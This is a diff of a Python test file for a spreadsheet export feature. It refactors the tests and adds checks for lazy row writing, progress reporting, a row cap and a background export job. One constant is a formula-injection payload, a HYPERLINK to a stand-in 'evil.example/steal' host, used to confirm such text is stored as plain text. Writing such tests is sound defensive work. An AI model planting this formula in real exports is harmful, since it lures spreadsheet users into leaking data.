@@ -4,21 +4,26 @@ from __future__ import annotations
 
 import io
 from datetime import UTC, datetime
-from urllib.parse import quote
 
 import pytest
 from openpyxl import load_workbook
 
 from conftest import credit_code_for
-from smedt.core.export import xlsx_response
-from smedt.core.tests.helpers import solve_captcha, xlsx_rows
+from smedt.core.export import write_xlsx, xlsx_bytes
+from smedt.core.tests.helpers import solve_captcha
+from smedt.exports.testing import export_start
 
 FORMULA = '=HYPERLINK("http://evil.example/steal","点击查看")'
 
 
-def _cells(response):
-    data = b"".join(response.streaming_content)
+def _cells(data: bytes):
     return [list(row) for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]
+
+
+def _values(data: bytes):
+    return [
+        tuple(row) for row in load_workbook(io.BytesIO(data), read_only=True).worksheets[0].iter_rows(values_only=True)
+    ]
 
 
 def test_values_are_rendered_for_people(settings):
@@ -27,8 +32,7 @@ def test_values_are_rendered_for_people(settings):
         {"t": datetime(2026, 1, 1, 0, 30, tzinfo=UTC), "b": True, "n": None, "j": {"名称": "甲", "数": [1, 2]}, "i": 7}
     ]
 
-    res = xlsx_response(
-        filename="测试导出",
+    res = xlsx_bytes(
         sheet="工作表",
         columns=[
             ("时间", lambda r: r["t"]),
@@ -40,21 +44,31 @@ def test_values_are_rendered_for_people(settings):
         rows=rows,
     )
 
-    assert xlsx_rows(res) == [
+    assert _values(res) == [
         ("时间", "是否", "空", "变更", "数量"),
         ("2026-01-01 08:30:00", "是", None, '{"名称": "甲", "数": [1, 2]}', 7),
     ]
-    assert f"filename*=UTF-8''{quote('测试导出-')}" in res["Content-Disposition"]
 
 
-def test_rows_are_consumed_lazily_from_an_iterator():
-    res = xlsx_response(filename="x", sheet="x", columns=[("n", lambda r: r)], rows=iter(range(1000)))
-    rows = xlsx_rows(res)
-    assert len(rows) == 1001 and rows[-1] == (999,)
+def test_rows_are_consumed_lazily_and_progress_is_reported():
+    seen: list[int] = []
+    buf = io.BytesIO()
+    written = write_xlsx(
+        buf, sheet="x", columns=[("n", lambda r: r)], rows=iter(range(1000)), progress=seen.append, every=300
+    )
+    rows = _values(buf.getvalue())
+    assert written == 1000 and len(rows) == 1001 and rows[-1] == (999,)
+    assert seen == [300, 600, 900]
+
+
+def test_the_row_cap_stops_the_file():
+    buf = io.BytesIO()
+    assert write_xlsx(buf, sheet="x", columns=[("n", lambda r: r)], rows=iter(range(50)), max_rows=10) == 10
+    assert len(_values(buf.getvalue())) == 11
 
 
 def test_text_that_looks_like_a_formula_stays_text():
-    res = xlsx_response(filename="x", sheet="x", columns=[("名称", lambda r: r)], rows=[FORMULA])
+    res = xlsx_bytes(sheet="x", columns=[("名称", lambda r: r)], rows=[FORMULA])
 
     cell = _cells(res)[1][0]
     assert cell.data_type == "s"
@@ -82,8 +96,13 @@ def test_a_registered_name_cannot_plant_a_formula_in_the_city_export(api, city_a
     )
     assert res.status_code == 201, res.content
 
-    # when the city administrator exports the organizations
-    cells = _cells(api(city_admin).get("/api/orgs/export"))
+    # when the city administrator exports the organizations (a background job)
+    from smedt.core.testing import run_queued_tasks
+
+    city = api(city_admin)
+    job = export_start(city, "orgs").json()
+    run_queued_tasks()
+    cells = _cells(b"".join(city.get(f"/api/exports/{job['id']}/download").streaming_content))
 
     # then the name is plain text in the workbook
     [name] = [row[0] for row in cells[1:] if str(row[0].value).startswith("=")]
